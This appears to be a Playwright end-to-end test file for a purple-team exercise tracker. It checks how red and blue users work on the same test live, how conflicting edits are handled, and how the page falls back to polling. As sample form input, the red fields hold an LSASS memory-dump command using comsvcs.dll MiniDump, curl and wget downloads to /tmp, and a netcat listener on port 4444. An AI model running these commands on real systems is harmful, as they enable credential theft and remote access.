import type { Browser, Page } from '@playwright/test';
import { expectAccessible } from '../a11y.js';
import { API_HEADERS, apiSignIn, prepareAdmin, unexpectedErrors } from '../auth-helpers.js';
import {
  activate,
  createMember,
  gradientPng,
  pastePng,
  seedMission,
  watchErrors,
  type Member,
  type SeededMission,
} from '../execution-helpers.js';
import { expect, test } from '../fixtures.js';
import { choose } from '../mission-helpers.js';

/** The per-test page: red and blue working the same test at once, live, without lost updates. */

const RED = { email: 'riley.red@example.org', display_name: 'Riley Red' };
const RED2 = { email: 'rowan.rook@example.org', display_name: 'Rowan Rook' };
const BLUE = { email: 'bailey.blue@example.org', display_name: 'Bailey Blue' };
const VIEWPORT = { width: 1440, height: 1800 };

let red: Member;
let red2: Member;
let blue: Member;
let mission: SeededMission;

test.describe.configure({ mode: 'serial' });

test.beforeAll(async ({ resetServer, browser }) => {
  await resetServer();
  const admin = await prepareAdmin();
  const page = await browser.newPage();
  await apiSignIn(page, admin);
  red = await createMember(page.request, RED, 'red_operator');
  red2 = await createMember(page.request, RED2, 'red_operator');
  blue = await createMember(page.request, BLUE, 'blue_analyst');
  mission = await seedMission(page.request, [
    { user: red, role: 'red' },
    { user: red2, role: 'red' },
    { user: blue, role: 'blue' },
  ]);
  await page.close();
});

/** A browser context of its own for `member`, signed in, on `path`. */
async function open(
  browser: Browser,
  member: Member,
  path: string,
  options: { streamDown?: boolean } = {},
): Promise<{ page: Page; errors: string[]; member: Member }> {
  const context = await browser.newContext({ viewport: VIEWPORT });
  const page = await context.newPage();
  const errors = watchErrors(page);
  const signedIn = await activateOnce(page, member);
  if (options.streamDown) await page.route('**/api/missions/*/events?*', (route) => route.abort());
  await page.goto(path);
  await expect(page.getByTestId('execution-page')).toBeVisible();
  await expect(page.getByTestId('live-badge')).toHaveAttribute(
    'data-status',
    options.streamDown ? 'polling' : 'live',
  );
  return { page, errors, member: signedIn };
}

const activated = new Set<string>();
async function activateOnce(page: Page, member: Member): Promise<Member> {
  if (activated.has(member.email)) {
    await apiSignIn(page, member);
    return member;
  }
  const next = await activate(page, member);
  activated.add(member.email);
  if (member.email === red.email) red = next;
  if (member.email === red2.email) red2 = next;
  if (member.email === blue.email) blue = next;
  return next;
}

const testUrl = (testId: string) => `/missions/${mission.id}/tests/${testId}`;

test('red executes, blue sees it live, reviews it and pastes evidence', async ({
  browser,
  shot,
}) => {
  const first = mission.tests[0];
  if (!first) throw new Error('no test planned');
  const r = await open(browser, red, testUrl(first.id));
  const b = await open(browser, blue, testUrl(first.id));

  // Each sees the other on the test; fields follow the rights.
  await expect(r.page.getByTestId('presence-avatar')).toHaveAttribute(
    'data-name',
    BLUE.display_name,
  );
  await expect(b.page.getByTestId('presence-avatar')).toHaveAttribute(
    'data-name',
    RED.display_name,
  );
  await expect(r.page.getByTestId('zone-blue-readonly')).toBeVisible();
  await expect(b.page.getByTestId('zone-red-readonly')).toBeVisible();
  await expect(b.page.getByTestId('red-command')).not.toBeEditable();
  await expect(b.page.getByTestId('mark-executed')).toHaveCount(0);
  await expect(r.page.getByTestId('snapshot-args')).toContainText('C:\\Temp\\lsass.dmp');

  // Red: the attack clock, what was run, then "Mark executed".
  await r.page.getByTestId('attack-start').click();
  await expect(r.page.getByTestId('attack-running')).toBeVisible();
  await expect(b.page.getByTestId('attack-started')).not.toHaveValue('');
  await r.page.waitForTimeout(1200);
  await r.page.getByTestId('attack-stop').click();
  await expect(r.page.getByTestId('attack-duration')).toBeVisible();
  await r.page
    .getByTestId('red-command')
    .fill('rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\Temp\\lsass.dmp full');
  await r.page
    .getByTestId('red-output')
    .fill('PS C:\\> dir C:\\Temp\\lsass.dmp\n  52 428 800 lsass.dmp');
  await choose(r.page, r.page.getByTestId('red-target_asset_id'), 'WS-FIN-042');
  await choose(r.page, r.page.getByTestId('red-execution_result'), 'Succeeded');
  await expect(r.page.getByTestId('zone-red-dirty')).toBeVisible();
  await r.page.getByTestId('zone-red-save').click();
  await expect(r.page.getByTestId('zone-red-dirty')).toHaveCount(0);
  await r.page.getByTestId('mark-executed').click();
  await expect(r.page.getByTestId('execution-state')).toHaveAttribute('data-state', 'executed');

  // Blue, without reloading: the new state, who changed it, what red ran.
  await expect(b.page.getByTestId('execution-state')).toHaveAttribute('data-state', 'executed');
  await expect(b.page.getByTestId('live-badge')).toContainText(`modified by ${RED.display_name}`);
  await expect(b.page.getByTestId('red-output')).toHaveValue(/lsass\.dmp/);
  await expect(b.page.getByTestId('executed-at')).not.toHaveText('—');
  await r.page.mouse.move(1, 1);
  await shot(r.page, 'execution-red-view');
  await expectAccessible(r.page, 'the red view of a test');

  // Blue reviews: level, comment, hunt query, then "Mark reviewed".
  await choose(b.page, b.page.getByTestId('blue-detection-level'), 'Alerted');
  await b.page
    .getByTestId('blue-comment')
    .fill('EDR raised **Credential access: LSASS memory** 14 s after the dump.');
  await b.page
    .getByTestId('blue-hunt-query')
    .fill(
      'DeviceProcessEvents | where ProcessCommandLine has "comsvcs.dll" and ProcessCommandLine has "MiniDump"',
    );
  await b.page.keyboard.press('Control+s');
  await expect(b.page.getByTestId('zone-blue-dirty')).toHaveCount(0);
  await b.page.getByTestId('state-action-reviewed_by_blue').click();
  await expect(b.page.getByTestId('execution-state')).toHaveAttribute(
    'data-state',
    'reviewed_by_blue',
  );
  await expect(r.page.getByTestId('execution-state')).toHaveAttribute(
    'data-state',
    'reviewed_by_blue',
  );
  await expect(r.page.getByTestId('live-badge')).toContainText(`modified by ${BLUE.display_name}`);
  await expect(r.page.getByTestId('blue-detection-level')).toHaveValue('Alerted');

  // Blue pastes a screenshot: it uploads to the blue side; red sees it appear.
  await pastePng(b.page, gradientPng());
  const blueItems = b.page.getByTestId('evidence-blue').getByTestId('evidence-item');
  await expect(blueItems).toHaveCount(1);
  await expect(blueItems.first()).toHaveAttribute('data-name', /^pasted-\d{8}-\d{6}\.png$/);
  await expect(blueItems.first().getByTestId('evidence-preview')).toBeVisible();
  await blueItems.first().getByTestId('evidence-caption').fill('EDR alert in the console');
  await blueItems.first().getByTestId('evidence-caption').press('Enter');
  const seenByRed = r.page.getByTestId('evidence-blue').getByTestId('evidence-item');
  await expect(seenByRed).toHaveCount(1);
  await expect(seenByRed.first().getByTestId('evidence-caption-text')).toHaveText(
    'EDR alert in the console',
  );
  await expect
    .poll(() =>
      seenByRed
        .first()
        .getByTestId('evidence-preview')
        .evaluate((img) => (img as HTMLImageElement).naturalWidth),
    )
    .toBe(96);
  await b.page.mouse.move(1, 1);
  await shot(b.page, 'execution-blue-view');
  await expectAccessible(b.page, 'the blue view of a test');

  expect(unexpectedErrors(r.errors)).toEqual([]);
  expect(unexpectedErrors(b.errors)).toEqual([]);
  await r.page.context().close();
  await b.page.context().close();
});

test('a stale edit opens the conflict dialog and re-applying keeps both sides informed', async ({
  browser,
  shot,
}) => {
  const [first, second] = mission.tests;
  if (!first || !second) throw new Error('two tests expected');
  const a = await open(browser, red, testUrl(first.id));
  // From the mission's plan, the test name opens the per-test page.
  await a.page.goto(`/missions/${mission.id}?tab=plan`);
  await a.page.getByTestId('plan-test-link').filter({ hasText: first.name }).click();
  await expect(a.page).toHaveURL(new RegExp(`/tests/${first.id}$`));
  await expect(a.page.getByTestId('execution-name')).toHaveText(first.name);
  await expect(a.page.getByTestId('execution-mission')).toHaveText(mission.name);
  // Next test with the keyboard (j), as a red operator moves through the plan.
  await a.page.locator('body').click({ position: { x: 5, y: 5 } });
  await a.page.keyboard.press('j');
  await expect(a.page).toHaveURL(new RegExp(`/tests/${second.id}$`));
  await expect(a.page.getByTestId('execution-name')).toHaveText(second.name);
  await expect(a.page.getByTestId('execution-position')).toContainText('test 2 of 2');
  const b = await open(browser, red2, testUrl(second.id));

  // Both edit the command; the first save wins, the second must not overwrite silently.
  await a.page.getByTestId('red-command').fill('curl -o /tmp/tool https://example.org/tool-a');
  await b.page.getByTestId('red-command').fill('wget -O /tmp/tool https://example.org/tool-b');
  await a.page.getByTestId('zone-red-save').click();
  await expect(a.page.getByTestId('zone-red-dirty')).toHaveCount(0);
  await b.page.getByTestId('zone-red-save').click();
  const dialog = b.page.getByRole('dialog', { name: /changed while you were editing/ });
  await expect(dialog).toBeVisible();
  const row = dialog.locator('[data-testid="conflict-row"][data-field="red_command"]');
  await expect(row).toHaveAttribute('data-clash', 'true');
  await expect(row).toContainText('tool-a');
  await expect(row).toContainText('tool-b');
  await expect(b.page.getByTestId('red-command')).toHaveValue(/tool-b/);
  await b.page.mouse.move(1, 1);
  await shot(b.page, 'execution-conflict-dialog');
  await expectAccessible(b.page, 'the conflict dialog');

  await b.page.getByTestId('conflict-reapply').click();
  await expect(dialog).toBeHidden();
  await expect(b.page.getByTestId('zone-red-dirty')).toHaveCount(0);
  await expect(b.page.getByTestId('red-command')).toHaveValue(/tool-b/);
  // The first writer's page follows without reload.
  await expect(a.page.getByTestId('red-command')).toHaveValue(/tool-b/);
  await expect(a.page.getByTestId('live-badge')).toContainText(`modified by ${RED2.display_name}`);

  // Discard: a second clash, and "Discard mine" takes the server's value.
  await a.page.getByTestId('red-command').fill('curl -o /tmp/tool https://example.org/tool-c');
  await b.page.getByTestId('red-command').fill('nc -lvnp 4444');
  await a.page.getByTestId('zone-red-save').click();
  await expect(a.page.getByTestId('zone-red-dirty')).toHaveCount(0);
  await b.page.getByTestId('zone-red-save').click();
  await expect(dialog).toBeVisible();
  await b.page.getByTestId('conflict-discard').click();
  await expect(b.page.getByTestId('red-command')).toHaveValue(/tool-c/);
  await expect(b.page.getByTestId('zone-red-dirty')).toHaveCount(0);

  expect(unexpectedErrors(a.errors).filter((e) => !/409/.test(e))).toEqual([]);
  expect(unexpectedErrors(b.errors).filter((e) => !/409/.test(e))).toEqual([]);
  await a.page.context().close();
  await b.page.context().close();
});

test('without the stream, the page falls back to polling the activity feed', async ({
  browser,
}) => {
  const second = mission.tests[1];
  if (!second) throw new Error('two tests expected');
  const b = await open(browser, blue, testUrl(second.id), { streamDown: true });
  const r = await open(browser, red, testUrl(second.id));
  const res = await r.page.request.put(`/api/missions/${mission.id}/tests/${second.id}`, {
    headers: API_HEADERS,
    data: { red_output: 'seen through polling' },
  });
  expect(res.status(), await res.text()).toBe(200);
  // The 15 s poll brings it in, without a reload.
  await expect(b.page.getByTestId('red-output')).toHaveValue('seen through polling', {
    timeout: 25_000,
  });
  await expect(b.page.getByTestId('live-badge')).toContainText(`modified by ${RED.display_name}`);
  await r.page.context().close();
  await b.page.context().close();
});
